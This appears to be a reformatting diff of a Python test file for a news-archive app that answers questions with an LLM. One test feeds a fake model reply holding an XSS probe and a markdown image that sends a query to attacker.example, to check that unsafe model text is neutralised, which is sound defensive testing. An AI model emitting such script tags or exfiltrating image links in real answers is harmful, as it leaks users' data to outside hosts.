@@ -70,11 +70,18 @@ def test_follow_up_is_rewritten_and_shown() -> None:
 
 def test_outlet_and_date_filters_apply_to_retrieval(tmp_path: Path) -> None:
     extra = tmp_path / "gazette.jsonl"
-    extra.write_text(json.dumps({
-        "title": "Harbour bridge reopens", "source": "Port Gazette", "published_at": "2024-03-04",
-        "url": "https://gazette.example/bridge",
-        "body": "The harbour bridge reopened on Monday after a two-year refit, the city council said.",
-    }) + "\n")
+    extra.write_text(
+        json.dumps(
+            {
+                "title": "Harbour bridge reopens",
+                "source": "Port Gazette",
+                "published_at": "2024-03-04",
+                "url": "https://gazette.example/bridge",
+                "body": "The harbour bridge reopened on Monday after a two-year refit, the city council said.",
+            }
+        )
+        + "\n"
+    )
     settings = load_settings()
     assert ingest_paths(Archive(settings), [PROJECT_ROOT / "seeds", extra]).ok
     at = start()
@@ -101,8 +108,10 @@ def test_failing_llm_endpoint_falls_back_to_quotes_without_a_traceback(monkeypat
 
 
 def test_llm_answer_streams_in_and_unsafe_model_text_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
-    reply = ("Shoigu said Ukraine used eight drones [1]. <script>alert(1)</script> "
-             "![pixel](https://attacker.example/leak?q=x) [more](https://evil.example/) [1]")
+    reply = (
+        "Shoigu said Ukraine used eight drones [1]. <script>alert(1)</script> "
+        "![pixel](https://attacker.example/leak?q=x) [more](https://evil.example/) [1]"
+    )
     with FakeOpenAIServer(reply=reply) as server:
         monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
         monkeypatch.setenv("NEWSROOM_CHAT_MODEL", "fake-model")
